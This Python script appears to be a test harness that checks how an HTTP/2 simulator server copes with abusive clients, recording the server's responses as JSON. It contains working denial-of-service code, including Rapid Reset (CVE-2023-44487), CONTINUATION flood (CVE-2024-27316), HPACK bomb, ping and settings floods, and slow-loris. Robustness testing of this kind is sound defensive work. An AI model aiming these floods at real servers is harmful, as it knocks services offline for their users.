"""Speaks to the simulator as nobody should, on Python's `hyperframe`; what it does is named by its first argument.

At the end it sends a PING, and prints one JSON line with what the server said until it answered that or hung up.
"""

import argparse
import json
import socket
import ssl
from urllib.parse import urlsplit

import hyperframe.frame as frames
from hpack import Decoder, Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

LAST_PING = b"the last"

# How long to wait for anything, in seconds.
PATIENCE = 20


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("deed", choices=sorted(DEEDS))
    parser.add_argument("--url", type=urlsplit, required=True)
    parser.add_argument("--ca", required=True)
    wanted = parser.parse_args()
    # Connections that hang in the air; none but one deed needs more than one.
    connections = [connect(wanted) for _ in range(100 if wanted.deed == "slow_loris" else 1)]
    try:
        DEEDS[wanted.deed](*connections)
        connections[-1].sendall(frames.PingFrame(0, opaque_data=LAST_PING).serialize())
    except OSError:
        # The server has hung up while we still wrote, as it should.
        pass
    print(json.dumps({"deed": wanted.deed, **listen(connections[-1])}), flush=True)


def connect(wanted):
    tls = ssl.create_default_context(cafile=wanted.ca)
    tls.set_alpn_protocols(["h2"])
    plain = socket.create_connection((wanted.url.hostname, wanted.url.port))
    connection = tls.wrap_socket(plain, server_hostname=wanted.url.hostname)
    connection.settimeout(PATIENCE)
    return connection


def garbage(connection):
    connection.sendall(bytes(range(256)) * 1024)


def garbage_after_the_preface(connection):
    connection.sendall(PREFACE + settings() + bytes(range(255, -1, -1)) * 1024)


def half_a_frame(connection):
    connection.sendall(PREFACE + settings() + b"\x00\x40\x00\x00\x00\x00\x00\x00\x01half")
    connection.shutdown(socket.SHUT_WR)


def rapid_reset(connection):
    """CVE-2023-44487: requests that are taken back at once."""
    connection.sendall(PREFACE + settings())
    encoder = Encoder()
    for stream in range(1, 40_001, 2):
        reset = frames.RstStreamFrame(stream, error_code=8).serialize()
        connection.sendall(request(encoder, stream, end=False) + reset)


def endless_headers(connection):
    """CVE-2024-27316: a header block that never ends."""
    connection.sendall(PREFACE + settings())
    connection.sendall(frames.HeadersFrame(1, data=b"").serialize())
    for _ in range(100_000):
        connection.sendall(frames.ContinuationFrame(1, data=b"\x00\x01a\x01b" * 200).serialize())


def ping_flood(connection):
    connection.sendall(PREFACE + settings())
    for number in range(1_000_000):
        connection.sendall(frames.PingFrame(0, opaque_data=number.to_bytes(8, "big")).serialize())


def settings_flood(connection):
    connection.sendall(PREFACE)
    for _ in range(1_000_000):
        connection.sendall(settings())


def hpack_bomb(connection):
    """One long field in the table, then as many references to it as fit."""
    connection.sendall(PREFACE + settings())
    block = b"\x40\x04bomb\x7f\xa1\x1e" + b"x" * 4000 + b"\xbe" * 12_000
    connection.sendall(frames.HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())


def endless_body(connection):
    """A hundred times what a window allows, on a stream that is answered after the first bytes."""
    connection.sendall(PREFACE + settings() + request(Encoder(), 1, end=False))
    for _ in range(400):
        connection.sendall(frames.DataFrame(1, data=b"x" * 16_384).serialize())


def slow_loris(*connections):
    """Many connections that begin something and never go on; the last one is as it should be."""
    *slow, good = connections
    for number, connection in enumerate(slow):
        whole = PREFACE + settings() + request(Encoder(), 1, end=False)
        connection.sendall(whole[: 1 + number % len(whole)])
    good.sendall(PREFACE + settings())


def even_stream(connection):
    connection.sendall(PREFACE + settings() + request(Encoder(), 2, end=True))


def settings():
    return frames.SettingsFrame(0).serialize()


def request(encoder, stream, *, end):
    fields = [(":method", "POST"), (":scheme", "https"), (":path", "/3/device/ab"), (":authority", "localhost")]
    flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
    return frames.HeadersFrame(stream, data=encoder.encode(fields), flags=flags).serialize()


def listen(connection):
    """What comes until the answer to the last PING or the end: codes of GOAWAY and RST_STREAM, and statuses."""
    told = {"goaway": None, "resets": [], "statuses": [], "pong": False, "closed": False}
    rest = b""
    decoder = Decoder()
    try:
        while not told["pong"]:
            data = connection.recv(65_536)
            if not data:
                told["closed"] = True
                break
            rest = read_frames(rest + data, decoder, told)
    except TimeoutError:
        pass
    except OSError:
        told["closed"] = True
    return told


def read_frames(data, decoder, told):
    while len(data) >= 9:
        frame, length = frames.Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9 : 9 + length]))
        note(frame, decoder, told)
        data = data[9 + length :]
    return data


def note(frame, decoder, told):
    if isinstance(frame, frames.GoAwayFrame):
        told["goaway"] = frame.error_code
    elif isinstance(frame, frames.RstStreamFrame):
        told["resets"].append(frame.error_code)
    elif isinstance(frame, frames.HeadersFrame):
        told["statuses"].append(int(dict(decoder.decode(frame.data))[":status"]))
    elif isinstance(frame, frames.PingFrame):
        told["pong"] = frame.opaque_data == LAST_PING


DEEDS = {
    deed.__name__: deed
    for deed in (
        garbage,
        garbage_after_the_preface,
        half_a_frame,
        rapid_reset,
        endless_headers,
        ping_flood,
        settings_flood,
        hpack_bomb,
        endless_body,
        even_stream,
        slow_loris,
    )
}


if __name__ == "__main__":
    main()
